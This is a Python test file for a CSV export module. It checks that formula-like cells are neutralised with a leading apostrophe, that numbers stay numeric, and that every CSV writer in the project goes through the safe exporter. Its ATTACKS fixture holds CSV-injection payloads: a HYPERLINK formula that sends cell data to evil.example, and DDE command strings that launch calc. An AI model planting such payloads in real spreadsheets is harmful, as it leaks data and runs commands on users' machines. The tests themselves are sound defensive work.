"""CSV exports are inert: a cell a spreadsheet would evaluate (one starting with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return) is written with a leading ``'``; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest

from goldset.eval.readers import golden_from_records, run_from_frame
from goldset.eval.report import build_report
from goldset.labeler import live
from goldset.labeler.launch import streamlit_command

ATTACKS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def attack_report() -> dict:
    """A report with one slice named after each attack (and one harmless slice)."""
    slices = [*ATTACKS.values(), "head"]
    records = [
        {
            "query_id": f"q{number}",
            "slice": name,
            "status": "done",
            "answerable": True,
            "mode": "full",
            "judgments": {f"d{number}": 1},
        }
        for number, name in enumerate(slices)
    ]
    run = pd.DataFrame(
        {
            "query_id": [f"q{number}" for number in range(len(slices))],
            "doc_id": [f"d{number}" for number in range(len(slices))],
            "score": 1.0,
        }
    )
    return build_report(golden_from_records(records), run_from_frame(run, "r"), bootstrap=20)


def test_report_csv_neutralises_formula_slice_names_and_parses_back_as_text():
    text = live.report_csv(attack_report())
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    slices = {row["slice"] for row in rows}
    for attack in ATTACKS.values():
        assert "'" + attack in slices
        assert attack not in slices
    assert {"all", "head"} <= slices  # harmless text is left alone
    frame = pd.read_csv(io.StringIO(text, newline=""), keep_default_na=False)
    assert set(frame["slice"]) == slices
    assert pd.api.types.is_float_dtype(frame["value"])  # the figures stay numbers


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_every_text_cell_and_header_is_inert_and_numbers_stay_numbers(attack):
    frame = pd.DataFrame(
        {
            "query_id": [attack, "q2"],
            "query": [attack, "how do I log in"],
            "doc_id": [attack, "d-7"],
            attack: ["header from data", None],
            "delta": [-0.05, 0.25],
            "rank": [-1, 3],
        }
    )
    text = live.inert_csv(frame)
    header, first, second = csv.reader(io.StringIO(text, newline=""))
    assert header == ["query_id", "query", "doc_id", "'" + attack, "delta", "rank"]
    assert first == ["'" + attack] * 3 + ["header from data", "-0.05", "-1"]
    assert second == ["q2", "how do I log in", "d-7", "", "0.25", "3"]
    parsed = pd.read_csv(io.StringIO(text, newline=""), keep_default_na=False)
    assert parsed["query"].tolist() == ["'" + attack, "how do I log in"]
    assert parsed["delta"].tolist() == [-0.05, 0.25]
    assert parsed["rank"].tolist() == [-1, 3]


def test_text_that_looks_like_a_negative_number_is_text_and_neutralised():
    text = live.inert_csv(pd.DataFrame({"slice": ["-0.05"], "value": [-0.05]}))
    assert text == "slice,value\r\n'-0.05,-0.05\r\n"


# Writing a CSV without inert_csv is a bug waiting for a formula: only hashing may call to_csv.
CSV_WRITER = re.compile(r"\.to_csv\(|csv\.(?:writer|DictWriter)\(")
NOT_WRITTEN_OUT = {"labeler/live/history.py"}  # to_csv only to hash a run's rows


def test_every_csv_goldset_writes_goes_through_inert_csv():
    root = Path(__file__).resolve().parents[1]
    writers = {
        str(path.relative_to(root))
        for folder in ("labeler", "eval")
        for path in (root / folder).rglob("*.py")
        if CSV_WRITER.search(path.read_text(encoding="utf-8"))
    }
    assert writers - NOT_WRITTEN_OUT == {"labeler/live/downloads.py"}
    source = (root / "labeler/live/downloads.py").read_text(encoding="utf-8")
    assert len(CSV_WRITER.findall(source)) == 1  # the one in inert_csv


def test_the_app_offers_no_raw_csv_of_its_tables():
    # Streamlit's table toolbar writes its own CSV, data text as it is: the app turns it off.
    flags = streamlit_command("127.0.0.1", 8501)
    assert flags[flags.index("--client.disableDataExport") + 1] == "true"
